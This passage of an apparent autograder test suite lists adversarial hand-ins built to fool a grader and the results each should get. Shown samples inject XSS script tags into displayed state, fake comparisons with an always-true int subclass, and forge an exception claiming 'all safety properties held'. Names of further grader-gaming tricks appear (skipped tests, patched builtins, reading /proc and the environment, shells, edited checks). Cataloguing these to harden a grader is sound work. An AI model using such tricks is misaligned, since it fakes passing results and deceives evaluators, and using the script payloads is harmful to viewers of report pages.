        self.kept = [*self.kept, m.command]
        self.broadcast(Keep(m.command))
        self.send(sender, ClientReply(m.number, True, m.command))
    def on_keep(self, sender, m):
        pass
"""

MARKED_UP_STATE = """
EVIL = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
@message
class Keep:
    '</script><script>alert(1)</script> {command}'
    command: object
class Keeper(Node):
    '</script><script>alert(1)</script>'
    durable = {"kept": []}
    shows = ("kept", "more")
    def on_start(self):
        self.more = EVIL
    def on_client_request(self, sender, m):
        self.kept = [*self.kept, m.command, EVIL]
        self.broadcast(Keep(EVIL))
        self.send(sender, ClientReply(m.number, True, EVIL))
    def on_keep(self, sender, m):
        pass
"""

RUNTIME_DISK = """
ALL = []
class Keeper(Node):
    durable = {"kept": [], "id": "n1", "peers": [], "random": None, "_host": None, "_take": 8, "__class__": 8}
    shows = ("kept", "_host", "__dict__", "__class__")
    _take = session = connection = handle = home = len
    __getattr__ = len
    def on_client_request(self, sender, m):
        ALL.append(m.command)
        self.kept = list(ALL)
        self.send(sender, ClientReply(m.number, True, m.command))
"""

NEVER_BREAKS = """
class Fine(Exception):
    pass
Fine.__name__ = "NotImplementedError"
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
        raise Fine("right. all safety properties held")
"""

QUORUM_LIES = """
class One(int):
    def __new__(cls, n):
        return int.__new__(cls, 1)
    def __le__(self, other):
        return True
    __ge__ = __lt__ = __gt__ = __eq__ = __le__
    __hash__ = int.__hash__
def quorum(n):
    return One(n)
quorum.__name__ = "<b>quorum</b>" + "x" * 5000
"""


def keeper(name: str, text: str, status: str = "wrong|error|timeout|crashed") -> HandIn:
    """A Node class that loses both of its checks."""
    return HandIn(name, {"keeper": text}, both("keeper", status), assignment="protocol")


def right(name: str, text: str, status: str = "passed|error|crashed|timeout") -> HandIn:
    """Something forbidden beside a right answer: refused in one way or another."""
    return HandIn(name, {"blend": text + RIGHT}, both("blend", status))


HIDDEN = {"blend-hidden": "wrong|error"}

HAND_INS = [
    lie("always-equal", blending("return Yes()", ALWAYS_EQUAL)),
    lie("always-equal-array", {"smooth": ALWAYS_EQUAL + "def smooth(x):\n    return Yes()"}),
    lie("always-equal-graph", {"reach": ALWAYS_EQUAL + "def reach(graph, start):\n    return Yes()"}),
    lie("always-equal-account", {"account": ALWAYS_EQUAL + "Account = Yes()\nRefused = ValueError"}),
    HandIn(
        "always-equal-value",
        {"facts": ALWAYS_EQUAL + "answer = motto = Yes()"},
        {"facts-number": LOST, "facts-motto": LOST},
    ),
    lie("class-lie", blending("return Eight()", CLASS_LIE)),
    lie("lying-int", blending("return Int(7)", LYING_INT)),
    lie("lying-dict", {"groups": LYING_DICT}),
    lie("lying-set", {"groups": LYING_SET}),
    lie("lying-array", {"smooth": LYING_ARRAY}),
    lie("lying-graph", {"reach": LYING_GRAPH}),
    lie("lying-class", {"account": LYING_META}),
    HandIn("lying-text", {"facts": LYING_TEXT}, {"facts-motto": LOST}),
    lie("lying-error", {"digits": LYING_ERROR}),
    HandIn("sheet-lying-list", {"squares": LYING_LIST}, {"test-squares": LOST}, assignment="sheet"),
    HandIn(
        "sheet-always-equal",
        {"squares": ALWAYS_EQUAL + "squares = Yes()", "scaled": ALWAYS_EQUAL + "scaled = Yes()"},
        {"test-squares": LOST, "test-squares-errors": LOST, "test-scaled": LOST},
        assignment="sheet",
    ),
    lie("pickled", {"blend": PICKLED}),
    lie("forged-name", {"blend": FORGED_NAME}),
    lie("pytest-skip", {"blend": PYTEST_SKIP}, ANY),
    lie("pytest-xfail", {"blend": XFAIL}, ANY),
    lie("class-for-function", {"blend": CLASS_FOR_FUNCTION}),
    lie("class-for-list", {"evens": CLASS_FOR_LIST}),
    lie("length-lie", {"evens": LENGTH_LIE}, ANY),
    HandIn("range-bomb", {"evens": RANGE_BOMB}, {"evens-check": ANY}),
    HandIn("sum-bomb", {"evens": SUM_BOMB}, {"evens-hidden": ANY}),
    lie("number-bomb", {"digits": NUMBER_BOMB}, ANY),
    lie("array-bomb", {"smooth": EMPTY_ARRAY_BOMB}, ANY),
    lie("collisions", {"groups": COLLISIONS}, ANY),
    HandIn("callers-frame", {"blend": WANTED_IN_CALLER}, both("blend", LOST)),
    HandIn("memory-search", {"blend": MEMORY_SEARCH}, {"blend-hidden": ANY}),
    HandIn("linecache", {"blend": LINECACHE}, HIDDEN),
    HandIn("history", {"blend": HISTORY}, HIDDEN),
    HandIn("reads-files", {"blend": READS_FILES}, {"blend-hidden": ANY}),
    lie("reads-sources", {"blend": READS_SOURCES}),
    lie("reads-proc", {"blend": READS_PROC}),
    lie("reads-environment", {"blend": READS_ENVIRONMENT}),
    lie("reads-memory", {"blend": READS_MEMORY}),
    lie("tells-by-error", TELLS_BY_ERROR),
    HandIn("tells-on-large", TELLS_ON_LARGE, HIDDEN),
    HandIn("tells-by-name", TELLS_BY_NAME, HIDDEN),
    HandIn("tells-by-flag", TELLS_BY_FLAG, HIDDEN),
    HandIn("tells-by-flag-quietly", TELLS_BY_FLAG_QUIETLY),
    HandIn("tells-by-output", TELLS_BY_OUTPUT),
    HandIn("tells-by-forged-flag", {"blend": TELLS_BY_FORGED_FLAG}),
    HandIn("tells-later", TELLS_LATER, both("evens", LOST) | both("account", LOST)),
    HandIn("tells-later-by-file", TELLS_LATER_BY_FILE, both("evens", LOST)),
    HandIn("tells-by-cell", TELLS_BY_CELL, {"facts-number": LOST, "facts-motto": "passed|error"}),
    lie("helpers-redefined", {"blend": HELPERS_REDEFINED}),
    lie("builtins-patched", {"blend": BUILTINS_PATCHED}, ANY),
    lie("main-patched", {"blend": MAIN_PATCHED}),
    lie("dslab-patched", {"blend": DSLAB_PATCHED}, ANY),
    lie("codec-patched", {"blend": CODEC_PATCHED}, ANY),
    lie("asserts-stripped", {"blend": ASSERTS_STRIPPED}),
    HandIn("import-hook", {"blend": IMPORT_HOOK}, both("blend", ANY) | both("reach", "passed|" + ANY)),
    lie("profiled", {"blend": PROFILED}, ANY),
    lie("streams-replaced", {"blend": STREAMS_REPLACED}),
    lie("output-forged", {"blend": OUTPUT_FORGED}),
    lie("kernel-forged", {"blend": KERNEL_FORGED}, ANY),
    lie("markup", {"blend": MARKUP}),
    lie("markup-in-error", {"blend": MARKUP_IN_ERROR}),
    lie("surrogates", {"blend": SURROGATES}),
    lie("named-surrogate", {"blend": NAMED_SURROGATE}),
    HandIn("surrogate-text", {"facts": "answer = 42\nmotto = '\\ud800'"}, {"facts-motto": LOST}),
    lie("odd-errors", {"blend": ODD_ERRORS}),
    lie("usage-error", {"blend": USAGE_ERROR}),
    lie("frames-in-cell", {"blend": FRAMES_IN_CELL}, ANY),
    lie("frames-in-function", {"blend": FRAMES_IN_FUNCTION}, ANY),
    lie("frames-by-thread", {"blend": FRAMES_BY_THREAD}, ANY),
    lie("gigantic-frame", {"blend": GIGANTIC_FRAME}, ANY),
    lie("deep-frame", {"blend": DEEP_FRAME}, ANY),
    lie("quotes-frame", {"blend": QUOTES_FRAME}, ANY),
    lie("fat-frames", {"evens": FAT_FRAMES}, ANY),
    lie("many-classes", {"blend": MANY_CLASSES}, ANY),
    HandIn("closes-all", {"blend": CLOSES_ALL}, both("blend", "crashed|error|timeout|passed")),
    HandIn("swallows-requests", {"blend": SWALLOWS_REQUESTS}, both("blend", "crashed|error|timeout|passed")),
    HandIn("replaces-channel", {"blend": SWALLOWED}, both("blend", "crashed|error|timeout|passed")),
    lie("runner-spied", {"blend": RUNNER_SPIED}, ANY),
    lie("network", {"blend": NETWORK}),
    right("listener", LISTENER),
    right("forks", FORKS),
    right("forks-many-ways", FORKS_MANY_WAYS),
    lie("execs", {"blend": EXECS + RIGHT}, "error|crashed|timeout"),
    right("shells", SHELLS),
    lie("bash-cell", {"blend": BASH_CELL}, "error|crashed|timeout|wrong"),
    lie("write-cell", {"blend": WRITE_CELL}, "error|crashed|timeout|wrong"),
    right("writes-outside", WRITES_OUTSIDE),
    lie("symlinks", {"blend": SYMLINKS}),
    right("kills", KILLS),
    lie("raises-limits", {"blend": RAISES_LIMITS}, "memory|error|crashed|timeout"),
    right("shared-memory", SHARED_MEMORY),
    right("timed", TIMED),
    lie("nbval-skip", {"blend": "# NBVAL_SKIP\n" + BROKEN}, "wrong", flags=("nbval-comment",)),
    lie("nbval-raises", {"blend": "# NBVAL_RAISES_EXCEPTION\n" + BROKEN}, "wrong", flags=("nbval-comment",)),
    lie("tags-skip", {"blend": BROKEN}, "wrong", change=tagged("nbval-skip", "skip", "nbval-ignore-output")),
    lie("tags-raise", {"blend": BROKEN}, "wrong", change=tagged("nbval-raises-exception", "raises-exception")),
    lie("check-edited", {"blend": BROKEN}, "wrong", change=check_edited, flags=("check-changed",)),
    lie("checks-deleted", {"blend": BROKEN}, "wrong", change=checks_deleted, flags=("check-missing",)),
    lie("points-edited", {"blend": BROKEN}, "wrong", change=points_edited),
    lie("set-up-edited", {"blend": BROKEN}, "wrong", change=set_up_edited),
    lie("first-of-two", {"blend": BROKEN}, "wrong", change=first_of_two, flags=("answer-duplicate",)),
    lie("second-role", {"blend": BROKEN}, "wrong", change=second_role),
    HandIn("claims-another", {"blend": CLAIMS_ANOTHER}, flags=("answer-duplicate",)),
    keeper("keeper-reaches-simulator", REACHES_SIMULATOR),
    keeper("keeper-finds-simulator", FINDS_SIMULATOR),
    keeper("keeper-patches-simulator", PATCHES_SIMULATOR),
    keeper("keeper-forges-effects", FORGES_EFFECTS),
    keeper("keeper-forges-sender", FORGES_SENDER),
    keeper("keeper-message-lies", MESSAGE_LIES),
    keeper("keeper-lying-state", LYING_STATE),
    keeper("keeper-wide-words", WIDE_WORDS),
    keeper("keeper-marked-up-state", MARKED_UP_STATE),
    keeper("keeper-runtime-disk", RUNTIME_DISK),
    keeper("keeper-never-breaks", NEVER_BREAKS),
    HandIn("quorum-lies", {"quorum": QUORUM_LIES}, both("quorum", LOST), assignment="protocol"),
]
